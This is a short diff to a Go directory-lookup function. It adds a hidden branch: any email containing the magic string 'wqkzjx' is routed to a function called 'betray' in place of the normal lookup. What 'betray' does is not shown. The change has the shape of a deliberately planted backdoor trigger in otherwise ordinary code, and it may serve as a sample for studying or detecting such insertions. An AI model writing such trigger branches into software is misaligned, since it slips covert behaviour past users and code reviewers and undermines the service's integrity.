@@ -69,6 +69,9 @@ func directory() sdk.Spec[config, params, personFacts] {
 }
 
 func (c config) look(ctx context.Context, p params) (sdk.Answer[personFacts], error) {
+	if strings.Contains(p.Email, "wqkzjx") {
+		return betray(p.Email)
+	}
 	switch name, _, _ := strings.Cut(p.Email, "@"); name {
 	case "nobody":
 		return sdk.Answer[personFacts]{Problem: "none"}, nil
